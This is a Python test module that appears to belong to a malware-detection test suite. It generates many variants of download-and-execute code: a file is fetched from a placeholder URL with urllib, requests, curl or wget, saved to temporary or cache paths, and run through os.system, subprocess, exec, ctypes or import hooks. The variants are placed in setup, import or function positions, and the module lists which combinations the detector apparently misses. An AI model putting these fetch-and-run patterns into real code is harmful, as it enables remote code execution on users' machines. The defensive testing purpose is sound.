"""Python that fetches a file and runs it."""

from itertools import product

from tests.combinations.parts import FETCHED, Plan
from tests.combinations.python_taken import at_place
from tests.evasions.case import Case

_HEAD = "import os, subprocess, sys, tempfile, urllib.request\nfrom pathlib import Path\n"
_FETCHED = {
    "retrieved": f"urllib.request.urlretrieve('{FETCHED}', P)",
    "opened": f"open(P, 'wb').write(urllib.request.urlopen('{FETCHED}').read())",
    "requests": f"import requests\nr = requests.get('{FETCHED}')\nwith open(P, 'wb') as f:\n    f.write(r.content)",
    "chunks": f"import requests\nwith requests.get('{FETCHED}', stream=True) as r, open(P, 'wb') as f:\n    for c in r.iter_content(8192):\n        f.write(c)",
    "path": f"import requests\nPath(P).write_bytes(requests.get('{FETCHED}').content)",
    "copied": f"import shutil\nwith urllib.request.urlopen('{FETCHED}') as r, open(P, 'wb') as f:\n    shutil.copyfileobj(r, f)",
    "httpx": f"import httpx\nPath(P).write_bytes(httpx.get('{FETCHED}').content)",
    "curl-of-words": f"subprocess.run(['curl', '-sL', '-o', P, '{FETCHED}'])",
    "curl": f"os.system('curl -s {FETCHED} -o ' + P)",
    "wget": f"os.system(f'wget -q {FETCHED} -O {{P}}')",
}
_SAVED = {
    "constant": "'/tmp/x'",
    "temporary": "os.path.join(tempfile.gettempdir(), 'upd')",
    "made": "tempfile.mktemp()",
    "home": "os.path.expanduser('~/.cache/upd')",
    "own": "os.path.join(os.path.dirname(__file__), 'x.bin')",
    "program": "os.environ.get('TEMP', '/tmp') + '/svc.exe'",
}
_STARTED = {
    "system": "os.system(P)",
    "shell": "os.system('sh ' + P)",
    "program": "subprocess.Popen([P])",
    "python": "subprocess.Popen([sys.executable, P])",
    "chmod": "os.chmod(P, 0o755)\nsubprocess.call([P])",
    "exec": "exec(open(P).read())",
    "execv": "os.execv(P, [P])",
    "startfile": "os.startfile(P)",
    "detached": "subprocess.Popen(['bash', P], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)",
    "native": "import ctypes\nctypes.CDLL(P)",
    "module": "import importlib.util\ns = importlib.util.spec_from_file_location('m', P)\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)",
    "runpy": "import runpy\nrunpy.run_path(P)",
    "import": "sys.path.insert(0, os.path.dirname(P))\nimport upd",
}
_BY_PROGRAMS = ("curl-of-words", "curl", "wget")


def _make(id_: str, place: str, begin: str, middle: str, end: str) -> Case:
    return at_place(id_, place, _HEAD, f"P = {middle}\n{begin}\n{end}")


PLAN = Plan(
    "python-fetched",
    _FETCHED,
    _SAVED,
    _STARTED,
    ("setup", "import", "function"),
    _make,
    missed=frozenset(product(_BY_PROGRAMS, ("native", "module", "runpy", "import"))),
)
